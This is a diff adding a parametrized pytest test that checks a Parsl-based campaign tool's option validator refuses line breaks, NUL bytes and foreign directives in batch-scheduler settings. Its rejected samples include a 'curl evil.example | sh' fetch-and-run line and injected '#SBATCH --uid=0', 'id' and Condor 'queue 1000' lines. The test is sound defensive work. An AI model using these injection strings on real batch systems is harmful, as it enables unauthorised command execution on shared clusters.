@@ -464,3 +464,42 @@ def test_the_intent_and_the_manifest_are_themselves(finished: Path) -> None:
     assert Intent.read(RunDir(finished / "r")) is not None
     assert manifest.read(RunDir(finished / "r"))["campaign"] == "c"
     assert each_command(finished, finished / "r") == [0, 0, 0, 0]
+
+
+# What reaches a batch system's script ---------------------------------------------------------------------------------
+
+SCRIPTS = [  # class, option, value, whether it is taken
+    ("SlurmProvider", "scheduler_options", "#SBATCH --gpus=1\n\n#SBATCH --constraint=gpu\n", True),
+    ("SlurmProvider", "scheduler_options", "#SBATCH --gpus=1\ncurl evil.example | sh", False),
+    ("SlurmProvider", "scheduler_options", "#SBATCH --gpus=1\r\nid", False),
+    ("SlurmProvider", "scheduler_options", "#PBS -l x", False),
+    ("SlurmProvider", "scheduler_options", "#SBATCHED", False),
+    ("SlurmProvider", "account", "m1\n#SBATCH --uid=0", False),
+    ("SlurmProvider", "account", "m1\x0b#SBATCH --uid=0", False),
+    ("SlurmProvider", "walltime", "00:10:00\nid", False),
+    ("SlurmProvider", "partition", "p\0q", False),
+    ("SlurmProvider", "worker_init", "module load x\nsource y", True),
+    ("PBSProProvider", "scheduler_options", "#PBS -l filesystems=home", True),
+    ("PBSProProvider", "select_options", "ngpus=4\nid", False),
+    ("GridEngineProvider", "scheduler_options", "#$ -l gpu=1", True),
+    ("LSFProvider", "scheduler_options", "#BSUB -q x\nqueue", False),
+    ("CondorProvider", "scheduler_options", "+Want = true\nrequest_gpus = 1", True),
+    ("CondorProvider", "scheduler_options", "x = 1\nqueue 1000", False),
+    ("CondorProvider", "environment", {"A": "b\nqueue"}, False),
+    ("LocalProvider", "worker_init", "export A=1\nexport B=2", True),
+    ("SlurmProvider", "launcher", {"class": "SrunLauncher", "overrides": "--gpus=1"}, True),
+    ("SlurmProvider", "launcher", {"class": "SrunLauncher", "overrides": "-n 1\nid"}, False),
+]
+
+
+@pytest.mark.parametrize(("cls", "option", "value", "taken"), SCRIPTS)
+def test_no_option_puts_lines_into_a_batch_script(cls: str, option: str, value: Any, taken: bool) -> None:
+    """Line breaks only in what is shell by purpose; every line of scheduler options is a directive of that system."""
+    from campaign.providers.parsl import Options
+
+    told = {"provider": {"class": cls, option: value}}
+    if taken:
+        Options.model_validate(told)
+        return
+    with pytest.raises(ValueError, match=r"line break|every line|NUL"):
+        Options.model_validate(told)
